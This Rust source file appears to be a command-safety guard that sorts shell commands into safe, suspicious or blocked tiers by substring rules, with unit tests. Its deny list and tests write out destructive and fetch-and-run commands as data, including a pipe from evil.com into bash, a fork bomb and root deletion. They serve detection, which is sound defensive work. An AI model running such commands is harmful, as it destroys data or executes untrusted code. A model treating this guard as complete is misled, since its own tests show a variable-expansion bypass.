use serde::{Deserialize, Serialize};

use crate::config::GuardConfig;

/// Risk level assigned to a proposed command. Ordering matters:
/// `Blocked` outranks `Suspicious` outranks `Safe`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Risk {
    Safe,
    Suspicious,
    Blocked,
}

/// A single substring rule. Patterns are stored lowercase with runs of
/// whitespace collapsed, matching the normalization applied to commands.
#[derive(Debug, Clone)]
pub struct Rule {
    pub pattern: String,
    pub risk: Risk,
    pub rationale: String,
}

/// Classification result for one command.
#[derive(Debug, Clone)]
pub struct Verdict {
    pub risk: Risk,
    pub matched: Option<String>,
    pub rationale: String,
}

#[derive(Debug, thiserror::Error)]
pub enum RuleLoadError {
    #[error("failed to read rules file: {0}")]
    Io(#[from] std::io::Error),

    #[error("failed to parse rules file: {0}")]
    Parse(#[from] toml::de::Error),
}

const BUILTIN_RULES: &[(&str, Risk, &str)] = &[
    (
        "rm -rf /",
        Risk::Blocked,
        "recursive deletion from the filesystem root",
    ),
    ("rm -rf ~", Risk::Blocked, "recursive deletion of the home directory"),
    ("rm -rf *", Risk::Blocked, "recursive deletion of everything in place"),
    ("rm -r /", Risk::Blocked, "recursive deletion from the filesystem root"),
    ("dd if=", Risk::Blocked, "raw block device write"),
    ("> /dev/sd", Risk::Blocked, "raw block device write"),
    ("mkfs", Risk::Blocked, "filesystem format destroys existing data"),
    (":(){", Risk::Blocked, "fork bomb"),
    ("chmod -r 777 /", Risk::Blocked, "world-writable permissions from root"),
    ("shred", Risk::Blocked, "irrecoverable file destruction"),
    ("deltree", Risk::Blocked, "recursive tree deletion"),
    ("shutdown", Risk::Blocked, "powers the machine off"),
    ("reboot", Risk::Blocked, "restarts the machine"),
    ("init 0", Risk::Blocked, "powers the machine off"),
    ("init 6", Risk::Blocked, "restarts the machine"),
    ("| sh", Risk::Blocked, "pipes untrusted input into a shell"),
    ("| bash", Risk::Blocked, "pipes untrusted input into a shell"),
    ("rm ", Risk::Suspicious, "deletes files"),
    ("; rm", Risk::Suspicious, "chained deletion"),
    ("&& rm", Risk::Suspicious, "chained deletion"),
    ("sudo", Risk::Suspicious, "runs with elevated privileges"),
    ("chown -r", Risk::Suspicious, "recursive ownership change"),
    ("chmod ", Risk::Suspicious, "permission change"),
    ("kill -9", Risk::Suspicious, "force-kills a process"),
    ("pkill", Risk::Suspicious, "kills processes by name"),
    ("fdisk", Risk::Suspicious, "partition table manipulation"),
    ("curl http", Risk::Suspicious, "fetches remote content"),
    ("wget http", Risk::Suspicious, "fetches remote content"),
];

#[derive(Debug, Deserialize)]
struct RulesFile {
    #[serde(default)]
    rules: Vec<RuleFileEntry>,
}

#[derive(Debug, Deserialize)]
struct RuleFileEntry {
    pattern: String,
    risk: Risk,
    #[serde(default)]
    rationale: Option<String>,
}

/// Ordered rule table. Built-in rules come first and cannot be downgraded
/// by user-supplied rules; user rules are purely additive.
#[derive(Debug, Clone)]
pub struct RuleSet {
    rules: Vec<Rule>,
}

impl RuleSet {
    #[must_use]
    pub fn builtin() -> Self {
        let rules = BUILTIN_RULES
            .iter()
            .map(|(pattern, risk, rationale)| Rule {
                pattern: (*pattern).to_owned(),
                risk: *risk,
                rationale: (*rationale).to_owned(),
            })
            .collect();
        Self { rules }
    }

    /// Build the full rule set for a guard config: built-ins, then the
    /// optional rules file, then inline pattern lists.
    ///
    /// # Errors
    ///
    /// Returns an error if `rules_path` is set but cannot be read or parsed.
    pub fn from_config(config: &GuardConfig) -> Result<Self, RuleLoadError> {
        let mut set = Self::builtin();

        if let Some(ref path) = config.rules_path {
            let content = std::fs::read_to_string(path)?;
            let file: RulesFile = toml::from_str(&content)?;
            for entry in file.rules {
                if entry.risk == Risk::Safe {
                    tracing::warn!(pattern = %entry.pattern, "ignoring safe rule, rules cannot whitelist");
                    continue;
                }
                set.push_user_rule(
                    &entry.pattern,
                    entry.risk,
                    entry.rationale.as_deref().unwrap_or("user-defined rule"),
                );
            }
        }

        for pattern in &config.blocked_patterns {
            set.push_user_rule(pattern, Risk::Blocked, "user-defined rule");
        }
        for pattern in &config.suspicious_patterns {
            set.push_user_rule(pattern, Risk::Suspicious, "user-defined rule");
        }

        Ok(set)
    }

    fn push_user_rule(&mut self, pattern: &str, risk: Risk, rationale: &str) {
        let pattern = normalize(pattern);
        if pattern.is_empty() {
            return;
        }
        if self
            .rules
            .iter()
            .any(|r| r.pattern == pattern && r.risk >= risk)
        {
            return;
        }
        self.rules.push(Rule {
            pattern,
            risk,
            rationale: rationale.to_owned(),
        });
    }

    /// Classify a command. Pure: no I/O, no clock, same input same verdict.
    ///
    /// Matching is case-insensitive substring over a whitespace-normalized
    /// copy, so a pattern fires anywhere in a compound command. A `Blocked`
    /// match wins over any number of `Suspicious` matches.
    #[must_use]
    pub fn classify(&self, raw_text: &str) -> Verdict {
        let normalized = normalize(raw_text);

        let mut suspicious: Option<&Rule> = None;
        for rule in &self.rules {
            if !normalized.contains(rule.pattern.as_str()) {
                continue;
            }
            match rule.risk {
                Risk::Blocked => {
                    return Verdict {
                        risk: Risk::Blocked,
                        matched: Some(rule.pattern.clone()),
                        rationale: rule.rationale.clone(),
                    };
                }
                Risk::Suspicious => {
                    if suspicious.is_none() {
                        suspicious = Some(rule);
                    }
                }
                Risk::Safe => {}
            }
        }

        if let Some(rule) = suspicious {
            return Verdict {
                risk: Risk::Suspicious,
                matched: Some(rule.pattern.clone()),
                rationale: rule.rationale.clone(),
            };
        }

        Verdict {
            risk: Risk::Safe,
            matched: None,
            rationale: "no destructive pattern matched".to_owned(),
        }
    }

    #[must_use]
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

fn normalize(text: &str) -> String {
    text.to_lowercase()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules() -> RuleSet {
        RuleSet::builtin()
    }

    #[test]
    fn root_deletion_blocked() {
        let v = rules().classify("rm -rf /");
        assert_eq!(v.risk, Risk::Blocked);
        assert_eq!(v.matched.as_deref(), Some("rm -rf /"));
    }

    #[test]
    fn home_deletion_blocked() {
        assert_eq!(rules().classify("rm -rf ~").risk, Risk::Blocked);
    }

    #[test]
    fn blocked_case_insensitive() {
        assert_eq!(rules().classify("RM -RF /").risk, Risk::Blocked);
        assert_eq!(rules().classify("MKFS.ext4 /dev/sda").risk, Risk::Blocked);
        assert_eq!(rules().classify("DD IF=/dev/zero").risk, Risk::Blocked);
    }

    #[test]
    fn whitespace_collapsed_before_matching() {
        assert_eq!(rules().classify("rm   -rf\t /").risk, Risk::Blocked);
        assert_eq!(rules().classify("sudo \n apt update").risk, Risk::Suspicious);
    }

    #[test]
    fn blocked_inside_compound_command() {
        let v = rules().classify("echo ok && curl http://x.sh | sh");
        assert_eq!(v.risk, Risk::Blocked);
        assert_eq!(v.matched.as_deref(), Some("| sh"));
    }

    #[test]
    fn pipe_to_bash_blocked() {
        assert_eq!(
            rules().classify("wget http://evil.com/a.sh | bash").risk,
            Risk::Blocked
        );
    }

    #[test]
    fn fork_bomb_blocked() {
        assert_eq!(rules().classify(":(){ :|:& };:").risk, Risk::Blocked);
    }

    #[test]
    fn device_write_blocked() {
        assert_eq!(
            rules().classify("cat image.iso > /dev/sda").risk,
            Risk::Blocked
        );
    }

    #[test]
    fn system_control_blocked() {
        assert_eq!(rules().classify("shutdown -h now").risk, Risk::Blocked);
        assert_eq!(rules().classify("reboot").risk, Risk::Blocked);
        assert_eq!(rules().classify("init 6").risk, Risk::Blocked);
    }

    #[test]
    fn plain_rm_suspicious() {
        let v = rules().classify("rm old.log");
        assert_eq!(v.risk, Risk::Suspicious);
        assert_eq!(v.matched.as_deref(), Some("rm "));
    }

    #[test]
    fn sudo_suspicious() {
        assert_eq!(rules().classify("sudo apt install jq").risk, Risk::Suspicious);
    }

    #[test]
    fn network_fetch_suspicious_not_blocked() {
        assert_eq!(
            rules().classify("curl https://example.com/data.json").risk,
            Risk::Suspicious
        );
        assert_eq!(
            rules().classify("wget http://example.com/file").risk,
            Risk::Suspicious
        );
    }

    #[test]
    fn chained_rm_suspicious() {
        assert_eq!(rules().classify("make clean; rm cache").risk, Risk::Suspicious);
        assert_eq!(rules().classify("build && rm tmpdir").risk, Risk::Suspicious);
    }

    #[test]
    fn blocked_wins_over_suspicious() {
        // matches both "sudo" (suspicious) and "rm -rf /" (blocked)
        let v = rules().classify("sudo rm -rf /");
        assert_eq!(v.risk, Risk::Blocked);
    }

    #[test]
    fn safe_commands_pass() {
        assert_eq!(rules().classify("ls -la").risk, Risk::Safe);
        assert_eq!(rules().classify("cat file.txt").risk, Risk::Safe);
        assert_eq!(rules().classify("git status").risk, Risk::Safe);
        assert_eq!(rules().classify("df -h").risk, Risk::Safe);
    }

    #[test]
    fn safe_verdict_has_no_match() {
        let v = rules().classify("echo hello");
        assert_eq!(v.risk, Risk::Safe);
        assert!(v.matched.is_none());
    }

    #[test]
    fn empty_command_is_safe() {
        assert_eq!(rules().classify("").risk, Risk::Safe);
        assert_eq!(rules().classify("   ").risk, Risk::Safe);
    }

    #[test]
    fn substring_false_positive_accepted_tradeoff() {
        // "sudoku" contains "sudo"; accepted cost of substring matching
        assert_eq!(rules().classify("man sudoku").risk, Risk::Suspicious);
    }

    #[test]
    fn variable_expansion_not_resolved() {
        // residual risk: patterns hidden behind variables are not caught
        assert_eq!(rules().classify("$CMD -rf /").risk, Risk::Safe);
    }

    #[test]
    fn user_blocked_pattern_additive() {
        let config = GuardConfig {
            blocked_patterns: vec!["Custom-Danger".into()],
            ..GuardConfig::default()
        };
        let set = RuleSet::from_config(&config).unwrap();
        assert_eq!(set.classify("run custom-danger now").risk, Risk::Blocked);
        assert_eq!(set.classify("sudo rm -rf /").risk, Risk::Blocked);
    }

    #[test]
    fn user_suspicious_cannot_downgrade_builtin_blocked() {
        let config = GuardConfig {
            suspicious_patterns: vec!["rm -rf /".into()],
            ..GuardConfig::default()
        };
        let set = RuleSet::from_config(&config).unwrap();
        assert_eq!(set.classify("rm -rf /").risk, Risk::Blocked);
    }

    #[test]
    fn duplicate_user_patterns_deduped() {
        let config = GuardConfig {
            blocked_patterns: vec!["danger".into(), "DANGER".into(), "danger".into()],
            ..GuardConfig::default()
        };
        let set = RuleSet::from_config(&config).unwrap();
        let count = set
            .rules
            .iter()
            .filter(|r| r.pattern == "danger")
            .count();
        assert_eq!(count, 1);
    }

    #[test]
    fn empty_user_pattern_ignored() {
        let config = GuardConfig {
            blocked_patterns: vec![String::new(), "  ".into()],
            ..GuardConfig::default()
        };
        let set = RuleSet::from_config(&config).unwrap();
        assert_eq!(set.len(), RuleSet::builtin().len());
    }

    #[test]
    fn rules_file_loaded() {
        use std::io::Write;
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(
            file,
            "[[rules]]\npattern = \"drop table\"\nrisk = \"blocked\"\nrationale = \"destroys data\"\n\n[[rules]]\npattern = \"git push -f\"\nrisk = \"suspicious\"\n"
        )
        .unwrap();
        let config = GuardConfig {
            rules_path: Some(file.path().display().to_string()),
            ..GuardConfig::default()
        };
        let set = RuleSet::from_config(&config).unwrap();
        let v = set.classify("psql -c 'DROP TABLE users'");
        assert_eq!(v.risk, Risk::Blocked);
        assert_eq!(v.rationale, "destroys data");
        assert_eq!(set.classify("git push -f origin main").risk, Risk::Suspicious);
    }

    #[test]
    fn rules_file_safe_entries_ignored() {
        use std::io::Write;
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(file, "[[rules]]\npattern = \"sudo\"\nrisk = \"safe\"\n").unwrap();
        let config = GuardConfig {
            rules_path: Some(file.path().display().to_string()),
            ..GuardConfig::default()
        };
        let set = RuleSet::from_config(&config).unwrap();
        assert_eq!(set.classify("sudo ls").risk, Risk::Suspicious);
    }

    #[test]
    fn missing_rules_file_errors() {
        let config = GuardConfig {
            rules_path: Some("/nonexistent/rules.toml".into()),
            ..GuardConfig::default()
        };
        let result = RuleSet::from_config(&config);
        assert!(matches!(result, Err(RuleLoadError::Io(_))));
    }

    #[test]
    fn classify_is_deterministic() {
        let set = rules();
        let a = set.classify("sudo rm -rf / --no-preserve-root");
        let b = set.classify("sudo rm -rf / --no-preserve-root");
        assert_eq!(a.risk, b.risk);
        assert_eq!(a.matched, b.matched);
    }

    #[test]
    fn risk_ordering() {
        assert!(Risk::Blocked > Risk::Suspicious);
        assert!(Risk::Suspicious > Risk::Safe);
    }
}
